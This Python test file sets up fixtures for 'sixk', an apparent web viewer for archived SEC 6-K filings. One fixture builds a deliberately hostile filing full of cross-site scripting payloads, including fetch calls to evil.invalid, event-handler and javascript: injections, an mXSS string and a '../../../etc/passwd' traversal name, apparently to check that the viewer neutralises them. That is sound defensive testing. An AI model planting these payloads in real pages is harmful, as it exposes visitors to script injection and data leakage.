"""Archives served over real HTTP, a real browser where there is one, and a filing that tries everything."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from sixk import edgar
from sixk.archive import Archive
from sixk.edgar import NewDocument
from sixk.model import Filer, Header
from sixk.web.serving import serving
from sixk.web.settings import Settings

THRUNET = "0001097714"
LISTING = "0000947871-02-002227"
"""A report of 2002-11-14: a cover and a press release about a delisting."""

GIF = bytes.fromhex("47494638396101000100800000ff0000ffffff21f90400000000002c00000000010001000002024401003b")


def once(factory: pytest.TempPathFactory, name: str, build: Callable[[Path], object]) -> Path:
    """A folder that is built once a test run, whichever of the run's processes comes first."""
    base = factory.getbasetemp()
    folder = (base.parent if os.environ.get("PYTEST_XDIST_WORKER") else base) / name
    try:
        folder.mkdir()
    except FileExistsError:
        until = time.monotonic() + 240
        while not (folder / "ready").exists():
            assert time.monotonic() < until, f"{name} was not built"
            time.sleep(0.1)
        return folder
    build(folder)
    (folder / "ready").touch()
    return folder


@pytest.fixture(scope="session")
def thrunet_folder(fixtures: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    def build(folder: Path) -> None:
        with Archive(folder / "archive") as archive:
            summary = archive.add([fixtures / "thrunet" / "submissions"], workers=1)
            assert summary.added == 26, summary
            archive.watches.add("landlines", '"leased line"')
            tickers = folder / "tickers.csv"
            tickers.write_text("cik,ticker,exchange,name\n1097714,KOREA,Nasdaq,Korea Thrunet Co Ltd\n")
            archive.tickers(tickers)

    return once(tmp_path_factory, "thrunet", build) / "archive"


@pytest.fixture(scope="session")
def thrunet(thrunet_folder: Path) -> Iterator[str]:
    """Korea Thrunet's and Hanaro's reports, served: the address."""
    with serving(Settings(archive=str(thrunet_folder), port=0, log="off", secret="s")) as base:
        yield base


@pytest.fixture(scope="session")
def demo_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from sixk.web.demo import build

    sample = pytest.importorskip("sixk.sample")
    if not hasattr(sample, "demo"):
        pytest.skip("sixk.sample.demo is not there")
    return once(tmp_path_factory, "demo", lambda folder: build(folder, tell=print)) / "archive"


@pytest.fixture(scope="session")
def demo(demo_folder: Path) -> Iterator[str]:
    """The demo archive, served: the address."""
    with serving(Settings(archive=str(demo_folder), port=0, log="off", secret="s", title="sixk demo")) as base:
        yield base


@pytest.fixture(scope="session")
def empty(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """An archive with nothing in it, served."""
    folder = tmp_path_factory.mktemp("empty") / "archive"
    with Archive(folder) as archive:
        archive.add_bytes([])
    with serving(Settings(archive=str(folder), port=0, log="off", secret="s")) as base:
        yield base


@pytest.fixture
def web(thrunet: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=thrunet, timeout=30) as client:
        yield client


HOSTILE = b"""<html><head><title>x</title>
<meta http-equiv="refresh" content="0;url=http://evil.invalid/refresh">
<base href="http://evil.invalid/base/"><link rel="stylesheet" href="http://evil.invalid/style.css">
<style>@import url(http://evil.invalid/import.css); body { background: url(http://evil.invalid/bg.gif) }</style>
<script>document.title = "owned"; fetch("http://evil.invalid/script")</script>
<script src="http://evil.invalid/script.js"></script></head>
<body onload="fetch('http://evil.invalid/onload')" background="http://evil.invalid/body.gif">
<p>FORM 6-K</p><p>Report of Foreign Private Issuer</p><p>Acme Hostile Ltd announces the completion of the sale of its mill for US$ 5 million.</p>
<p id="main" onclick="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(http://evil.invalid/p.gif);color:red">Covered.</p>
<img src="http://evil.invalid/pixel.gif" onerror="fetch('http://evil.invalid/onerror')"><img src="//evil.invalid/slashes.gif">
<img src="../../../../static/sixk.css"><img src="..%2f..%2fsecret.gif"><img src="logo.gif" alt="ours"><img src="x.svg">
<img src="data:image/svg+xml,<svg onload=fetch('http://evil.invalid/data')>"><img srcset="http://evil.invalid/srcset.gif 2x">
<a href="javascript:fetch('http://evil.invalid/js')">script link</a><a href="data:text/html,<script>1</script>">data link</a>
<a href="http://evil.invalid/click" ping="http://evil.invalid/ping">web link</a><a href="#main">inner link</a>
<svg onload="fetch('http://evil.invalid/svg')"><script>fetch('http://evil.invalid/svgscript')</script><image href="http://evil.invalid/i.gif"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('http://evil.invalid/mxss')&gt;"></mglyph></table></mtext></math>
<iframe src="http://evil.invalid/frame"></iframe><object data="http://evil.invalid/object"></object><embed src="http://evil.invalid/embed">
<video src="http://evil.invalid/video" poster="http://evil.invalid/poster"></video><audio src="http://evil.invalid/audio" autoplay></audio>
<form action="http://evil.invalid/form"><input name="a" autofocus onfocus="fetch('http://evil.invalid/focus')"><button>send</button></form>
<template><img src=x onerror=alert(1)></template><noscript><img src="http://evil.invalid/noscript.gif"></noscript>
<p title="\x01\x02&#1;1&#2;forged\x03">&#1;1&#2;forged mark&#3;</p>
<table background="http://evil.invalid/t.gif"><tr><td style="background-image:url('http://evil.invalid/td.gif')">cell</td></tr></table>
</body></html>"""


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """An archive of one filing that tries to run, to load and to leave, served."""
    header = Header(accession="0000000001-24-000001", form="6-K", filed="2024-05-02", accepted="2024-05-02T16:10:00-04:00",
                    filers=(Filer(cik="0000000001", name="ACME <script>alert(1)</script> LTD"),))  # fmt: skip
    documents = [
        NewDocument("6-K", HOSTILE, "a.htm", '"><script>alert(2)</script>'),
        NewDocument(
            "EX-99.1", b"<html><body onload=alert(1)><p>Second.</p></body></html>", "../../../etc/passwd.htm", "traversal"
        ),
        NewDocument("EX-99.2", b"MZ\x00<script>alert(3)</script>", "evil.exe", "binary"),
        NewDocument("GRAPHIC", GIF, "logo.gif"),
        NewDocument("GRAPHIC", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)"/>', "x.svg"),
    ]
    raw = edgar.write(edgar.build(header, documents))
    folder = tmp_path_factory.mktemp("hostile") / "archive"
    with Archive(folder) as archive:
        summary = archive.add_bytes([("hostile.txt", raw)])
    assert summary.added == 1, summary
    with serving(Settings(archive=str(folder), port=0, log="off", secret="s")) as base:
        yield base


@pytest.fixture(scope="session")
def browser() -> Iterator[Any]:
    """Headless Chromium; tests that need it skip where there is none."""
    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    binary = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if binary is None:
        pytest.skip("no Chromium on this machine: the browser tests are left out")
    with playwright.sync_playwright() as play:
        chromium = play.chromium.launch(executable_path=binary, args=["--no-sandbox"])
        yield chromium
        chromium.close()


@pytest.fixture(scope="session")
def axe(tmp_path_factory: pytest.TempPathFactory) -> str:
    """axe-core's script, fetched once from the npm registry (it is a test tool only and not kept in the repository)."""
    cached = Path.home() / ".cache" / "sixk-tests" / "axe-core-4.14.1.min.js"
    if not cached.is_file():
        if shutil.which("npm") is None:
            pytest.skip("npm is not installed: axe-core cannot be fetched")
        folder = tmp_path_factory.mktemp("axe")
        done = subprocess.run(["npm", "pack", "axe-core@4.14.1"], cwd=folder, capture_output=True, timeout=120, check=False)
        if done.returncode:
            pytest.skip(f"npm pack axe-core failed: {done.stderr.decode(errors='replace')[-200:]}")
        subprocess.run(["tar", "xzf", next(folder.glob("*.tgz")).name], cwd=folder, check=True)
        cached.parent.mkdir(parents=True, exist_ok=True)
        cached.write_bytes((folder / "package" / "axe.min.js").read_bytes())
    return cached.read_text()
